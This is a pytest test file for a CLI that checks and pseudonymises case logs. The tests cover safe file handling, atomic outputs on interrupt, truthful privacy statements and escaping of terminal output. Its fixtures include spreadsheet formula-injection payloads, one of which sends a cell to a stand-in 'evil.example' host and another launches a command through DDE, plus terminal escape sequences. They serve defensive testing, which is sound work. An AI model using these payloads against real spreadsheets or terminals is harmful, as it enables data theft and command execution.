"""Issue 11, end to end: no command destroys a user's file, an interrupted run leaves the old
outputs or the new ones, every privacy statement is true of the files written, and text from
files reaches the terminal escaped. Each test here failed on main before the issue was fixed."""

from __future__ import annotations

import csv
import json
import os
import signal
import stat
import subprocess
import sys
import textwrap
import time
from pathlib import Path

import pandas as pd
import pytest

from conformance.keys import HEADER, key_file_bytes
from lscb.cli import main

ROOT = Path(__file__).resolve().parents[2]
EVERY_RULE = ROOT / "tests" / "data" / "check" / "every_rule.csv"
AS_OF = "2024-03-01T12:00:00"
CHECK_FILES = ("deviations.csv", "cases.csv", "summary.json", "report.html")


def _run(capsys: pytest.CaptureFixture[str], *args: str | Path) -> tuple[int, str, str]:
    status = main([str(a) for a in args])
    out, err = capsys.readouterr()
    return status, out, err


def _key(path: Path) -> Path:
    path.write_bytes(key_file_bytes(bytes(range(32))))
    path.chmod(0o600)
    return path


# ------------------------------------------------------------------ a user's file destroyed


def test_the_key_file_is_never_the_output(capsys: pytest.CaptureFixture[str],
                                          tmp_path: Path) -> None:
    key = _key(tmp_path / "K")
    before = key.read_bytes()
    status, _, err = _run(capsys, "pseudonymise", EVERY_RULE, "--key-file", key, "--out", key,
                          "--force")
    assert status == 2 and "the key file" in err
    assert key.read_bytes() == before
    # nor is the key that --new-key is about to create
    status, _, err = _run(capsys, "pseudonymise", EVERY_RULE, "--key-file", tmp_path / "N",
                          "--out", tmp_path / "N", "--new-key")
    assert status == 2 and "the key file" in err and not (tmp_path / "N").exists()


def test_check_never_writes_over_its_input_log(capsys: pytest.CaptureFixture[str],
                                               tmp_path: Path) -> None:
    log = tmp_path / "cases.csv"
    log.write_bytes(EVERY_RULE.read_bytes())
    status, _, err = _run(capsys, "check", log, "--as-of", AS_OF, "--fitness", "none", "--out",
                          tmp_path, "--force")
    assert status == 2 and "the input file" in err and "cases.csv" in err
    assert log.read_bytes() == EVERY_RULE.read_bytes()
    assert sorted(p.name for p in tmp_path.iterdir()) == ["cases.csv"]  # nothing else written


def test_report_audit_never_writes_over_its_input_log(capsys: pytest.CaptureFixture[str],
                                                      tmp_path: Path) -> None:
    log = tmp_path / "L.csv"
    log.write_bytes(EVERY_RULE.read_bytes())
    status, _, err = _run(capsys, "report", "audit", log, "--out", log, "--force")
    assert status == 2 and "the input file" in err
    assert log.read_bytes() == EVERY_RULE.read_bytes()


def test_outputs_through_links_are_refused_and_hard_links_elsewhere_kept(
        capsys: pytest.CaptureFixture[str], tmp_path: Path) -> None:
    precious = tmp_path / "precious.txt"
    precious.write_text("keep me\n", encoding="utf-8")
    link = tmp_path / "out.csv"
    link.symlink_to(precious)
    key = _key(tmp_path / "K")
    status, _, err = _run(capsys, "pseudonymise", EVERY_RULE, "--key-file", key, "--out", link,
                          "--force")
    assert status == 2 and "symbolic link" in err
    # a hard link to the input is the input
    log = tmp_path / "log.csv"
    log.write_bytes(EVERY_RULE.read_bytes())
    os.link(log, tmp_path / "same.csv")
    status, _, err = _run(capsys, "pseudonymise", log, "--key-file", key, "--out",
                          tmp_path / "same.csv", "--force")
    assert status == 2 and "the input file" in err
    assert log.read_bytes() == EVERY_RULE.read_bytes()
    # an output hard-linked to some other file is replaced, not written through
    os.link(precious, tmp_path / "other.csv")
    status, _, _ = _run(capsys, "pseudonymise", EVERY_RULE, "--key-file", key, "--out",
                        tmp_path / "other.csv", "--force")
    assert status == 0
    assert precious.read_text(encoding="utf-8") == "keep me\n"


@pytest.mark.parametrize("command", ["check", "pseudonymise", "export"])
def test_existing_outputs_are_kept_without_force(
        capsys: pytest.CaptureFixture[str], tmp_path: Path, command: str) -> None:
    key = _key(tmp_path / "K")
    args = {
        "check": ["check", EVERY_RULE, "--as-of", AS_OF, "--fitness", "none", "--out",
                  tmp_path / "out"],
        "pseudonymise": ["pseudonymise", EVERY_RULE, "--key-file", key, "--out",
                         tmp_path / "out" / "shared.csv"],
        "export": ["model", "export", "--format", "json", "--out", tmp_path / "out" / "m.json"],
    }[command]
    assert _run(capsys, *args)[0] in (0, 1)
    written = {p.name: p.read_bytes() for p in (tmp_path / "out").iterdir()}
    for path in (tmp_path / "out").iterdir():
        path.write_text("the user's own edits\n", encoding="utf-8")
    status, _, err = _run(capsys, *args)
    assert status == 2 and "--force" in err
    assert all(p.read_text(encoding="utf-8") == "the user's own edits\n"
               for p in (tmp_path / "out").iterdir())
    assert _run(capsys, *args, "--force")[0] in (0, 1)
    assert {p.name: p.read_bytes() for p in (tmp_path / "out").iterdir()} == written


# ------------------------------------------------------------------ interrupted runs

_CHECK_IN_CHILD = textwrap.dedent(
    """
    import os, sys, time
    from pathlib import Path
    pause = sys.argv[1]
    if pause:
        real_replace, renamed = os.replace, []
        def replace(source, target):
            real_replace(source, target)
            if Path(target).name in ("deviations.csv", "cases.csv", "summary.json",
                                     "report.html"):
                renamed.append(target)
                if len(renamed) == int(pause):
                    print("READY", flush=True)
                    time.sleep(1)
        os.replace = replace
    from lscb.cli import main
    sys.exit(main(sys.argv[2:]))
    """
)


def _check_child(out: Path, as_of: str, pause: str = "") -> subprocess.Popen[str]:
    return subprocess.Popen(
        [sys.executable, "-c", _CHECK_IN_CHILD, pause, "check", str(EVERY_RULE), "--as-of",
         as_of, "--out", str(out), "--force", "--quiet"],
        stdout=subprocess.PIPE, stderr=subprocess.PIPE, text=True, cwd=ROOT)


def _contents(folder: Path) -> dict[str, bytes]:
    return {p.name: p.read_bytes() for p in sorted(folder.iterdir())}


@pytest.fixture(scope="module")
def old_and_new(tmp_path_factory: pytest.TempPathFactory) -> tuple[dict[str, bytes],
                                                                   dict[str, bytes]]:
    """The outputs of a check as of 1 March (old) and as of 1 April (new)."""
    sets = []
    for as_of in (AS_OF, "2024-04-01T12:00:00"):
        folder = tmp_path_factory.mktemp("reference")
        child = _check_child(folder, as_of)
        child.communicate(timeout=120)
        sets.append(_contents(folder))
    assert sets[0] != sets[1] and sorted(sets[0]) == sorted(CHECK_FILES)
    return sets[0], sets[1]


@pytest.mark.parametrize("delay", [0.3, 1.5, 3.5])
def test_ctrl_c_at_any_moment_leaves_the_old_outputs_or_the_new(
        tmp_path: Path, old_and_new: tuple[dict[str, bytes], dict[str, bytes]],
        delay: float) -> None:
    old, new = old_and_new
    for name, data in old.items():
        (tmp_path / name).write_bytes(data)
    child = _check_child(tmp_path, "2024-04-01T12:00:00")
    time.sleep(delay)
    child.send_signal(signal.SIGINT)
    child.communicate(timeout=120)
    assert _contents(tmp_path) in (old, new), f"a mix after {delay} s"


@pytest.mark.parametrize("pause", ["1", "3"])
def test_ctrl_c_while_the_set_is_renamed_lets_it_finish(
        tmp_path: Path, old_and_new: tuple[dict[str, bytes], dict[str, bytes]],
        pause: str) -> None:
    old, new = old_and_new
    for name, data in old.items():
        (tmp_path / name).write_bytes(data)
    child = _check_child(tmp_path, "2024-04-01T12:00:00", pause)
    assert child.stdout is not None
    assert child.stdout.readline().strip() == "READY"
    child.send_signal(signal.SIGINT)
    _, err = child.communicate(timeout=120)
    assert child.returncode == 130 and "interrupted" in err
    assert _contents(tmp_path) == new


# ------------------------------------------------------------------ privacy statements


def test_the_checks_statement_about_a_personal_case_id_column_is_true(
        capsys: pytest.CaptureFixture[str], tmp_path: Path) -> None:
    frame = pd.read_csv(EVERY_RULE, dtype=str, keep_default_na=False)
    numbers = {"W1": "943 476 5919", "W2": "401 023 2137", "W3": "987 654 4321",
               "W4": "450 557 7104", "R1": "461 094 1296", "R2": "485 777 3456",
               "R3": "464 891 0038", "R4": "401 023 2137"}
    frame["NHS number"] = frame["case_id"].map(numbers)
    frame["Child's name"] = "Sarah Jones"
    frame = frame.drop(columns=["case_id"])
    log = tmp_path / "log.csv"
    frame.to_csv(log, index=False)
    status, out, _ = _run(capsys, "check", log, "--case-column", "NHS number", "--as-of",
                          AS_OF, "--fitness", "none", "--out", tmp_path / "out")
    assert status == 1
    written = "".join((tmp_path / "out" / name).read_text(encoding="utf-8")
                      for name in CHECK_FILES) + out
    assert any(n in written for n in numbers.values())  # the case ids are in the outputs ...
    statement = " ".join(out.split())
    assert ("The column 'NHS number' looks like personal data (its name suggests NHS numbers), "
            "and its values are the case ids, which appear in every output") in statement
    # ... and the check says so
    not_copied = statement.split("not copied into any output: ", 1)[1].split(".", 1)[0]
    assert "'NHS number'" not in not_copied and "'Child's name'" in not_copied
    assert "Sarah" not in written and "Jones" not in written  # that statement is true too


def _hostile_log(path: Path) -> Path:
    rows = [
        ("943 476 5919", "Concern identified", "2024-06-03T09:10:11", "Ann Worker",
         "employee", "Sarah Jones", "Called Sarah Jones (mother) on 07700 900123"),
        ("943 476 5919", "Called Sarah Jones (mother) on 07700 900123", "2024-06-03T10:20:30",
         "Ann Worker", "Sarah's mum", "Sarah Jones", "sj@example.org"),
        ("401 023 2137", '=HYPERLINK("http://evil.example/?"&A1,"Click")',
         "2024-06-04T11:59:59", "=cmd|' /C calc'!A0", "@SUM(1+1)", "Tom Smith", ""),
        ("401 023 2137", "Case closed", "2024-06-05", "-2+3", "manager", "Tom Smith", ""),
    ]
    with path.open("w", newline="", encoding="utf-8") as handle:
        writer = csv.writer(handle)
        writer.writerow(["NHS number", "activity", "timestamp", "resource", "role",
                         "Child's name", "notes"])
        writer.writerows(rows)
    return path


def test_pseudonymise_copies_no_free_text_formula_or_name_and_says_what_it_did(
        capsys: pytest.CaptureFixture[str], tmp_path: Path) -> None:
    log = _hostile_log(tmp_path / "log.csv")
    out = tmp_path / "shared.csv"
    status, said, _ = _run(capsys, "pseudonymise", log, "--key-file", tmp_path / "K",
                           "--new-key", "--case-column", "NHS number", "--round-to", "hour",
                           "--out", out)
    assert status == 0
    text = out.read_text(encoding="utf-8")
    for secret in ("943", "401 023", "Sarah", "Jones", "07700", "HYPERLINK", "evil", "calc",
                   "SUM", "mum", "Tom", "Ann", "example.org", "-2+3"):
        assert secret not in text, secret
    assert not any(cell.startswith(("=", "+", "-", "@"))
                   for row in csv.reader(text.splitlines()) for cell in row)
    said = " ".join(said.split())
    assert ("case_id, from the column 'NHS number': replaced by keyed pseudonyms (c-...). It "
            "looked like personal data") in said
    assert "2 other names (2 events) replaced by keyed labels (act-...)" in said
    assert "timestamp, from the column 'timestamp': rounded down to the hour" in said
    assert "the column 'Child's name': it looked like personal data" in said
    assert "the column 'notes': it looked like personal data" in said
    labels = pd.read_csv(out, dtype=str)["activity"]
    for label, count in labels[labels.str.startswith("act-")].value_counts().items():
        assert f"{label} ({count} event" in said
    assert set(pd.read_csv(out, dtype=str)["timestamp"].str[14:19]) <= {"00:00", ""}


def test_new_key_is_written_only_when_the_run_succeeds(
        capsys: pytest.CaptureFixture[str], tmp_path: Path) -> None:
    bad = tmp_path / "bad.csv"
    bad.write_text("case_id,activity,timestamp\nA,,2024-06-01\n", encoding="utf-8")
    key = tmp_path / "K"
    status, _, err = _run(capsys, "pseudonymise", bad, "--key-file", key, "--new-key",
                          "--out", tmp_path / "out.csv")
    assert status == 2 and "activity" in err
    assert not key.exists() and not (tmp_path / "out.csv").exists()
    (tmp_path / "taken.csv").write_text("mine\n", encoding="utf-8")
    status, _, _ = _run(capsys, "pseudonymise", EVERY_RULE, "--key-file", key, "--new-key",
                        "--out", tmp_path / "taken.csv")
    assert status == 2 and not key.exists()
    status, out, _ = _run(capsys, "pseudonymise", EVERY_RULE, "--key-file", key, "--new-key",
                          "--out", tmp_path / "out.csv")
    assert status == 0 and "A new key was written" in out
    assert key.read_text(encoding="ascii").startswith(HEADER)
    assert stat.S_IMODE(key.stat().st_mode) == 0o600


@pytest.mark.parametrize("not_a_key", ["log", "empty", "short"])
def test_only_a_key_file_is_accepted_as_a_key(
        capsys: pytest.CaptureFixture[str], tmp_path: Path, not_a_key: str) -> None:
    path = {"log": EVERY_RULE, "empty": tmp_path / "empty", "short": tmp_path / "short"}[
        not_a_key]
    if not_a_key == "empty":
        path.write_bytes(b"")
    if not_a_key == "short":
        path.write_bytes(b"0123456789abcdef0123456789abcdef")
    status, _, err = _run(capsys, "pseudonymise", EVERY_RULE, "--key-file", path, "--out",
                          tmp_path / "out.csv")
    assert status == 2 and "a key file made by 'lscb pseudonymise --new-key'" in err
    assert not (tmp_path / "out.csv").exists()


def test_a_key_readable_by_others_is_a_warning(capsys: pytest.CaptureFixture[str],
                                               tmp_path: Path) -> None:
    key = _key(tmp_path / "K")
    key.chmod(0o644)
    status, out, _ = _run(capsys, "pseudonymise", EVERY_RULE, "--key-file", key, "--out",
                          tmp_path / "out.csv")
    assert status == 0 and "Warning about the key" in out and "chmod 600" in out


# ------------------------------------------------------------------ the terminal


def test_escape_sequences_and_newlines_in_activity_names_are_shown_escaped(
        tmp_path: Path) -> None:
    log = tmp_path / "esc.csv"
    log.write_bytes(b'case_id,activity,timestamp\nc1,"\x1b[2J\x1b]0;owned\x07Evil\nname",'
                    b'2024-01-01T10:00\nc1,Case closed,2024-01-02T10:00\n')
    done = subprocess.run([sys.executable, "-m", "lscb", "check", str(log), "--fitness", "none"],
                          capture_output=True, cwd=ROOT, timeout=120)
    out = done.stdout + done.stderr
    assert b"\x1b" not in out and b"\x07" not in out
    assert b"\\x1b[2J\\x1b]0;owned\\x07Evil\\nname" in out
    # in error messages too
    bad = tmp_path / "bad.csv"
    bad.write_bytes(b'case_id,"act\x1b[31mivity",timestamp\nc1,x,2024-01-01\n')
    done = subprocess.run([sys.executable, "-m", "lscb", "check", str(bad)],
                          capture_output=True, cwd=ROOT, timeout=120)
    assert done.returncode == 2 and b"\x1b" not in done.stderr
    assert b"act\\x1b[31mivity" in done.stderr


def test_the_json_of_a_check_shows_control_characters_escaped_in_messages(
        tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    log = tmp_path / "esc.csv"
    # Enough of the procedure's steps for the check to judge the log (under half mapped, or no
    # rule judged, is an error now), and one step whose name carries an escape sequence.
    log.write_bytes(b'case_id,activity,timestamp\n'
                    b'c1,Social care notified,2024-01-01T09:00\n'
                    b'c1,Police notified,2024-01-01T09:30\n'
                    b'c1,"\x1b[31mEvil",2024-01-01T10:00\n')
    _, out, _ = _run(capsys, "check", log, "--fitness", "none", "--format", "json")
    assert "\x1b" not in out
    messages = [w["message"] for w in json.loads(out)["warnings"]]
    assert any("'\\x1b[31mEvil'" in m for m in messages)
